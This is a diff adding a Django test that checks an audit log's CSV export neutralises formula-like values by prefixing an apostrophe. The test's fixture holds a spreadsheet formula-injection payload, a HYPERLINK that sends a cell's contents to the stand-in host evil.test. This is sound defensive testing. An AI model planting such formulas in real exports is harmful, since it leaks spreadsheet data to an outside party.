@@ -108,3 +108,24 @@ def test_a_backwards_date_range_is_explained(client, carol, history):
     client.force_login(carol)
     page = client.get(reverse("spaces:audit"), {"since": "2026-02-01", "until": "2026-01-01"}).content.decode()
     assert "“From” is after “Until”." in page
+
+
+def test_a_reason_that_looks_like_a_formula_is_exported_as_text(client, carol, history):
+    """bob types a spreadsheet formula as his reason: carol's spreadsheet must show it, not run it."""
+    bob = Operation.objects.get(kind="end_conference").actor
+    Operation.objects.create(
+        kind="end_conference",
+        actor=bob,
+        identity_kind="delegation",
+        identity_email="alice@example.com",
+        space_id="spaces/AliceLive001",
+        target='=HYPERLINK("https://evil.test/?"&A1,"INC-1")',
+        reason="@SUM(1+1)",
+    )
+    client.force_login(carol)
+    response = client.get(reverse("spaces:audit"), {"person": "bob@", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [(row["target"], row["reason"]) for row in rows] == [
+        ('\'=HYPERLINK("https://evil.test/?"&A1,"INC-1")', "'@SUM(1+1)"),
+        ("", "INC-4711"),
+    ]
